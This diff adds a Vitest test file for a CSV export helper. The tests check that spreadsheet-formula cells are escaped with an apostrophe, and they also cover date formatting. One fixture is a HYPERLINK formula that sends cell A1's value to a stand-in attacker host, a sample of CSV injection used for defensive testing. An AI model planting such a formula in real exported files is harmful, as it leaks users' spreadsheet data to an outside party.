@@ -1,0 +1,33 @@
+import Papa from 'papaparse';
+import { describe, expect, it } from 'vitest';
+import { buildCsv, formatCsvDate } from './csv-export.ts';
+
+describe('buildCsv', () => {
+  it('escapes cells that a spreadsheet would run as a formula', () => {
+    const csv = buildCsv(
+      ['Name', 'Notes'],
+      [
+        ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1 555'],
+        ['-2+3', '@SUM(A1:A2)'],
+        ['Ada Lovelace', 'a = b, said "she"'],
+      ],
+    );
+    const rows = Papa.parse<string[]>(csv.trim()).data;
+    expect(rows[0]).toEqual(['Name', 'Notes']);
+    expect(rows[1]).toEqual(['\'=HYPERLINK("http://evil.example/?x="&A1,"Click")', "'+1 555"]);
+    expect(rows[2]).toEqual(["'-2+3", "'@SUM(A1:A2)"]);
+    // Other cells are untouched, quoted where CSV needs it.
+    expect(rows[3]).toEqual(['Ada Lovelace', 'a = b, said "she"']);
+    expect(csv.split('\r\n')[1]?.startsWith('"\'=HYPERLINK(')).toBe(true);
+  });
+
+  it('writes only the header for no rows', () => {
+    expect(buildCsv(['A', 'B'], []).trim()).toBe('A,B');
+  });
+});
+
+describe('formatCsvDate', () => {
+  it('is the ISO calendar day', () => {
+    expect(formatCsvDate(new Date('2025-03-05T23:10:00Z'))).toBe('2025-03-05');
+  });
+});
